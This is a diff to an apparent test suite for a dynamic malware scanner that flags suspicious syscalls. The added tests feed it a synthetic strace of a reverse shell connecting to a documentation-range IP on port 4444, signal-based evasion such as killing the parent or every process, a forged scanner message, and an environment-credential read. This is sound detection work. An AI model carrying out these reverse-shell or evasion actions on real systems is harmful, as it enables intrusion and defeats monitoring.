@@ -94,6 +94,36 @@ describe('one story', () => {
   });
 });
 
+describe('a reverse shell', () => {
+  it('is a connection in the place of standard input and output, whoever made it', () => {
+    const result = run([
+      '100 socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = 5<socket:[2]>',
+      '100 connect(5<socket:[2]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("203.0.113.7")}, 16) = 0',
+      '100 vfork( <unfinished ...>',
+      '101 dup2(5<socket:[2]>, 0</dev/null>) = 0<socket:[2]>',
+      '101 dup2(5<socket:[2]>, 1<pipe:[9]>) = 1<socket:[2]>',
+      '101 execve("/bin/sh", ["/bin/sh", "-i"], 0x7ffd0000 /* 9 vars */ <unfinished ...>',
+      '100 <... vfork resumed>) = 101',
+      '101 <... execve resumed>) = 0',
+    ]);
+    expect(rulesOf(result)).toEqual(['DYN-NET-CONTACT', 'DYN-NET-SHELL', 'DYN-EXEC-SHELL']);
+    expect(result.findings[1]).toMatchObject({ severity: 'critical', count: 2 });
+  });
+});
+
+describe('signals', () => {
+  it('to its own children are ordinary; to its parent, to process 1 and from a child to the runner they are not', () => {
+    const start = '100 fork() = 101';
+    const child = '101 setsid() = 101';
+    expect(run([start, child, '100 kill(101, SIGTERM) = 0', '101 +++ killed by SIGTERM +++']).findings).toEqual([]);
+    expect(rulesOf(run(['100 kill(99, SIGKILL) = -1 EPERM (Operation not permitted)']))).toEqual(['DYN-EVADE-KILL']);
+    expect(rulesOf(run([start, '101 kill(100, SIGSTOP) = 0', '101 +++ exited with 0 +++']))).toEqual([
+      'DYN-EVADE-KILL',
+    ]);
+    expect(rulesOf(run(['100 kill(-1, SIGKILL) = 0']))).toEqual(['DYN-EVADE-KILL']);
+  });
+});
+
 describe('the baseline', () => {
   const read = '100 openat(AT_FDCWD</tmp>, "/proc/self/environ", O_RDONLY|O_CLOEXEC) = 5</proc/100/environ>';
   const baseline = new Map([['DYN-CRED-ENVIRONMENT /proc/self/environ', 1]]);
@@ -167,6 +197,7 @@ describe('forged messages', () => {
     ['a second end of the load', record({ k: 'loaded', type: 'x' }), [record({ k: 'loaded', type: 'builtins.dict' })]],
     ['an end before its time', record({ k: 'done' }), AFTER],
     ['a phase that comes too late', record({ k: 'phase', phase: 'import' }), AFTER],
+    ['a message without the mark of the run', '100 write(3<pipe:[7]>, "dynscan:0000 {}\\n", 16) = 16', AFTER],
     ['a message that is none', record({ k: 'phase', phase: 'party' }), AFTER],
   ])('%s', (_, forged, after) => {
     expect(rulesOf(run([forged], {}, [...after, END]))).toContain('DYN-EVADE-FORGERY');
